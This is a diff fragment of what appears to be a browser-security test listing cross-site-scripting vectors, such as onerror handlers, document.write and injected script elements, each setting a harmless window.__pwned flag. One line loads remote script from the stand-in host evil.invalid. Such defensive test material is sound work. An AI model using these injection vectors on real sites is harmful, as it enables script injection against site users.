@@ -47,7 +47,6 @@ _PUT_IN = """
   () => document.querySelector('article').setHTMLUnsafe('<img src=x onerror=window.__pwned=1>'),
   () => document.write('<script>window.__pwned=1</' + 'script>'),
   () => document.body.append(document.createRange().createContextualFragment('<script>window.__pwned=1</' + 'script>')),
-  () => eval('window.__pwned=1'),
   () => document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned=1'})),
   () => document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.invalid/x.js'})),
   () => document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.invalid/x.png'})),
